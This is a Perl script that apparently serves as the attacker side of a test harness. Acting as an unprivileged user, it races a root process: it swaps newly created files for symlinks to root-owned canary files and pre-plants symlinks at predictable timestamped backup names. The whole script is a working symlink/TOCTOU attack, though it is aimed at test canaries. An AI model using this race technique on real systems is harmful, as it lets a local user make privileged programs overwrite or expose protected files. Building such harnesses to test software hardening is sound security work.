# A user's attack on folders that the user owns or may write in, while root works there: replaces each new name at once,
# and predictable names in advance. Ends when /srv/stop exists, and prints the number of replacements.
use strict;
use warnings;

my ($home, $secret, $folder) = ("/home/mallory", "/srv/canary/secret", "/srv/canary/folder");
my (%known, $swaps, $pool);
$swaps = $pool = 0;

# Waits while /srv/pause exists, and says so.
sub stand_still {
    return unless -e "/srv/pause";
    open my $paused, ">", "/srv/attacker/paused" or die;
    select undef, undef, undef, 0.005 while -e "/srv/pause";
    unlink "/srv/attacker/paused";
}

# Gives a name to something of root's, each time of another kind.
sub bait {
    my ($name) = @_;
    my $kind = $swaps++ % 4;
    if ($kind == 0) { symlink $secret, $name }
    elsif ($kind == 1) { symlink $folder, $name }
    elsif ($kind == 2) {
        mkdir $name or return;
        symlink $secret, "$name/$_" for qw(file backed owned page lines 0 leaf name);
        symlink $folder, "$name/$_" for qw(new below a);
    } else { rename "$home/pool/" . $pool++, $name or symlink $secret, $name }
}

sub names {
    my ($at) = @_;
    opendir my $dir, $at or return ();
    return grep { $_ ne "." && $_ ne ".." } readdir $dir;
}

# Each new name below a folder.
sub look {
    my ($at, $act, $depth) = @_;
    for my $name (names($at)) {
        stand_still();
        my $path = "$at/$name";
        next if $path eq "$home/pool";
        if (!$known{$path}++ && $act) {
            $known{"$path.was"} = 1;
            bait($path) if rename $path, "$path.was";
        }
        look($path, $act, $depth + 1) if $depth < 3 && !-l $path && -d _;
    }
}

# A name that switches between something of the attacker's and something of root's.
sub flip {
    my ($name) = @_;
    stand_still();
    my $path = "$home/$name";
    rename $path, "$path.away" or unlink $path;
    bait($path);
    rename $path, "$path.spent" or 1;
    unlink "$path.spent";
    rename "$path.away", $path;
}

look($_, 0, 0) for $home, "/srv/open", "/srv/sticky";
open my $ready, ">", "/srv/attacker/ready" or die;
until (-e "/srv/stop") {
    my $now = time;
    for my $ahead (0 .. 3) {
        my @t = localtime($now + $ahead);
        my $time = sprintf "%04d%02d%02d-%02d%02d%02d", $t[5] + 1900, $t[4] + 1, @t[3, 2, 1, 0];
        next if $known{$time}++;
        for my $name ("backed.$time~", "backed.$time-2~") {
            $known{"$home/$name"} = 1;
            symlink $secret, "$home/$name";
        }
    }
    for (1 .. 5) {
        look($_, 1, 0) for $home, "/srv/open", "/srv/sticky";
        flip($_) for "flip", "attributes", "lines", "blocks";
    }
}
print $swaps;
